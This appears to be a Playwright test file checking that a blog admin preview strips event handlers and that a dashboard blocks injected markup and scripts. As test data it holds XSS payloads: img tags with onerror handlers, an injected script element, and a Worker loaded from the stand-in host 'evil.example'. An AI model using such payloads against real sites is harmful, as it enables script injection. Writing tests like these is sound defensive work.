import { BLOG_ADMIN_TEXT } from '@gsc/contract/blog/labels';
import { ROUTES } from '@gsc/contract/routes';
import { expect } from '@playwright/test';
import { test } from '../test.ts';

const MARKUP = '<p>Some <strong>bold</strong> text</p><img src="https://x.example/a.png" onerror="ran = 1">';

test('the editor and the preview show markup, and handlers are removed', async ({ api, page, refused }) => {
  api.answer('POST /api/blog/preview', () => ({ content: MARKUP }));
  await page.route('https://x.example/**', route => route.abort());
  await page.goto('/admin/blog/new');
  const content = page.getByRole('textbox', { name: BLOG_ADMIN_TEXT.content, exact: true });
  await page.getByText('HTML', { exact: true }).click();
  await content.fill('<p>Some <strong>bold</strong> text</p>');
  await page.getByText('Editor', { exact: true }).last().click();
  await expect(content.locator('strong')).toHaveText('bold');
  await page.getByText('Preview', { exact: true }).click();
  const preview = page.getByRole('region', { name: 'Preview' });
  await expect(preview.locator('strong')).toHaveText('bold');
  await expect(preview.locator('img')).not.toHaveAttribute('onerror');
  // The browser reports the handler while DOMPurify parses the text. The server removes handlers before.
  expect(refused.filter(text => !text.startsWith('Executing inline event handler'))).toEqual([]);
  refused.length = 0;
});

test('the dashboard inserts no markup and no script from text', async ({ page, refused }) => {
  await page.goto(ROUTES.overview);
  await expect(page.getByRole('main')).toBeVisible();
  const outcome = await page.evaluate(() => {
    const shown = document.createElement('div');
    shown.innerHTML = '<img src=x onerror="globalThis.ran = 1">';
    const attempts = [
      () => new Worker('https://evil.example/worker.js'),
      () => {
        document.createElement('script').text = 'globalThis.ran = 1';
      },
    ].map(attempt => {
      try {
        attempt();
        return 'allowed';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    });
    return { elements: shown.children.length, attempts };
  });
  expect(outcome).toEqual({ elements: 0, attempts: ['refused', 'refused'] });
  expect(refused.length).toBeGreaterThanOrEqual(3);
  refused.length = 0;
});
